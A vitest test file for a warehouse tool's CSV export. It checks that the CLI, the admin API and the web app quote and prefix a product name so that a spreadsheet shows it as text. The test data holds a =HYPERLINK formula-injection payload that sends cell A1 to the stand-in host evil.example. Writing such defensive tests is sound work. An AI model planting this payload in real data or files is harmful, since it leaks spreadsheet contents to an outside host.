import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { openWarehouse } from '../src/warehouse/index.js';
import { zhongtai } from './support/cli.js';
import { adminServer } from './support/server.js';
import { tinyChain } from './support/tiny-chain.js';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
/** How every CSV writer must put the name: quoted, with a leading ' so a spreadsheet shows it as text. */
const SAFE = `"'${EVIL.replaceAll('"', '""')}"`;

/** The chain of hand-counted rows with one product named like a spreadsheet formula. */
async function evilChain(): Promise<string> {
  const path = join(mkdtempSync(join(tmpdir(), 'zhongtai-csv-')), 'evil.duckdb');
  const engine = await tinyChain(path);
  await engine.run('UPDATE product SET name = $1 WHERE sku = 1', [EVIL]);
  await engine.close();
  return path;
}

const query = {
  metrics: ['net_sales', 'gross_profit'],
  dimensions: ['sku'],
  timeRange: { from: '2024-03-04', to: '2024-03-05' },
};

/** The web app's own module, as the browser bundle runs it (type-checked with the web app, not here). */
type CsvOf = (result: unknown, catalog: unknown, lang: 'zh' | 'en') => string;
const WEB_CSV = '../web/src/csv.ts';
const webCsv = async (): Promise<CsvOf> => ((await import(WEB_CSV)) as { csvOf: CsvOf }).csvOf;

describe('CSV written by the CLI, the API and the web app', () => {
  it('keeps a product named =HYPERLINK(…) as text everywhere, and negative numbers as numbers', async () => {
    const path = await evilChain();
    const cli = await zhongtai(
      'query',
      '--db',
      path,
      '--metrics',
      'net_sales,gross_profit',
      '--by',
      'sku',
      '--from',
      '2024-03-04',
      '--to',
      '2024-03-05',
      '--format',
      'csv',
    );
    expect(cli.code, cli.stderr).toBe(0);
    expect(cli.stdout).toContain(SAFE);
    expect(cli.stdout).not.toMatch(/(^|,)=HYPERLINK/m);

    const engine = await openWarehouse({ path, readOnly: true });
    const server = await adminServer({ engine });
    try {
      const api = await server.inject({
        method: 'POST',
        url: '/api/v1/export',
        payload: { query, format: 'csv' },
      });
      expect(api.statusCode).toBe(200);
      expect(api.body).toContain(SAFE);
      expect(api.body).not.toMatch(/(^|,)=HYPERLINK/m);

      // The web app's 导出 CSV builds its file from the JSON answer: the same rule.
      const answer = (
        await server.inject({ method: 'POST', url: '/api/v1/export', payload: { query, format: 'json' } })
      ).json();
      const catalog = (await server.inject('/api/v1/catalog')).json();
      const csvOf = await webCsv();
      const web = csvOf(answer, catalog, 'zh');
      expect(web).toContain(SAFE);
      expect(web).not.toMatch(/(^|,)=HYPERLINK/m);
      // A negative amount stays a number a spreadsheet can sum.
      expect(
        csvOf({ ...answer, rows: [{ sku: 'x', net_sales: -12.5, gross_profit: -3 }] }, catalog, 'zh'),
      ).toMatch(/,-12\.5,-3\r\n$/);
    } finally {
      await server.close();
      await engine.close();
    }
  });
});
